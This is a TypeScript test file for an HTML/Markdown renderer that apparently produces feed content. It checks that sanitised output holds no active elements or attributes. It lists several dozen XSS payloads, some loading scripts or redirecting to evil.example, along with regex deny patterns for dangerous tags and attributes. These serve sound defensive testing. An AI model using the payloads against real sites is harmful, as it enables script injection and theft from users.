import fc from "fast-check";
import { SaxesParser } from "saxes";
import { describe, expect, test } from "vitest";
import { rendered } from "./rendering.ts";

const ADDRESS = /^(?:https?:\/\/|mailto:)/;

/** Elements that act or load by themselves. */
const ELEMENTS =
  /^(?:script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|template|video|audio)$/;

/** HTML as XML sees it: void elements closed, boolean attributes with a value, `<` and `]]>` spelled out. */
function asXml(html: string): string {
  const tags = html.replace(/<([a-z][a-z0-9]*)((?:"[^"]*"|[^">])*)>/g, (_, name: string, attributes: string) => {
    const valued = attributes.replace(/"[^"]*"/g, (value) => value.replaceAll("<", "&lt;"));
    const whole = valued.replace(/ (open|reversed)(?=[ /]|$)/g, ' $1=""');
    return `<${name}${whole}${/^(?:br|col|hr|img|wbr)$/.test(name) ? "/" : ""}>`;
  });
  return `<body>${tags.replaceAll("]]>", "]]&gt;")}</body>`;
}

/** Everything dangerous in a text's HTML, which is also read as XML. @throws where it is not well-formed */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  const parser = new SaxesParser();
  parser.on("error", (error) => {
    throw error;
  });
  parser.on("opentag", ({ name, attributes }) => {
    if (ELEMENTS.test(name)) found.push(name);
    for (const [attribute, value] of Object.entries(attributes)) {
      if (/^(?:on.*|style|srcset|formaction|ping|target|xlink:href)$/i.test(attribute)) found.push(attribute);
      if (/^(?:href|src|cite)$/.test(attribute) && !ADDRESS.test(value)) found.push(`${attribute}=${value}`);
    }
  });
  parser.write(asXml(html)).close();
  return found;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  '<img src="images/harbour.jpg" onload="alert(1)">',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "[x](javascript:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  '![x](images/harbour.jpg "a\\" onerror=\\"alert(1)")',
  "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<div onclick=alert(1) class=x>x</div>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<q cite='javascript:alert(1)'>x</q>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<template><script>alert(1)</script></template>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<title><img src=x onerror=alert(1)></title>",
  "<plaintext><script>alert(1)</script>",
  "`x`<x/onclick=alert(1)>",
  "<img src=https://example.org/a.png srcset='javascript:alert(1) 2x'>",
  "<a href=https://example.org/ target=_blank ping=https://evil.example>x</a>",
  "<!--><script>alert(1)</script-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?><script>alert(1)</script>",
];

describe("nothing that acts or loads by itself comes out of", () => {
  test.each(ATTACKS)("%s", (attack) => {
    expect(dangersIn(rendered(attack).html)).toEqual([]);
    expect(dangersIn(rendered(`One ${attack} two`).html)).toEqual([]);
  });
});

test("what is removed is named with its place", () => {
  const body = "One <b onclick=x>two</b>\n\n<iframe src=x></iframe>\n\n<script>x</script>\n\n<center>three</center>\n";

  const { html, warnings } = rendered(body);

  expect(html).toBe("<p>One <b>two</b></p>\n\n\nthree");
  expect(warnings).toEqual([
    "1:5: onclick on <b> is not carried by feeds and was removed: delete it",
    "3:1: <iframe> is not carried by feeds and was removed: link to it instead",
    "5:1: <script> is not carried by feeds and was removed with all that is in it: delete it",
    "7:1: <center> is not carried by feeds and was removed, its text was kept: write Markdown instead",
  ]);
});

test("an id cannot take the place of one of the page's own", () => {
  expect(rendered('<p id="content">x</p>').html).toBe('<p id="harbour-content">x</p>');
});

const PIECE = fc.oneof(
  fc.string({ unit: "binary" }),
  fc.constantFrom(
    ...ATTACKS,
    "<",
    ">",
    "]]>",
    "&",
    '"',
    "`",
    "[a](",
    ")",
    "\n\n",
    "|",
    "- ",
    "# ",
    "<p>",
    "</p>",
    "<b ",
  ),
);

test("any text at all gives sane, balanced HTML of characters that XML can carry, or a problem", () => {
  fc.assert(
    fc.property(fc.array(PIECE, { maxLength: 8 }), (pieces) => {
      const { html, problems } = rendered(pieces.join(""));
      if (!problems.some((problem) => problem.includes("no feed can carry"))) expect(dangersIn(html)).toEqual([]);
    }),
    { numRuns: 300, seed: 2026 },
  );
});
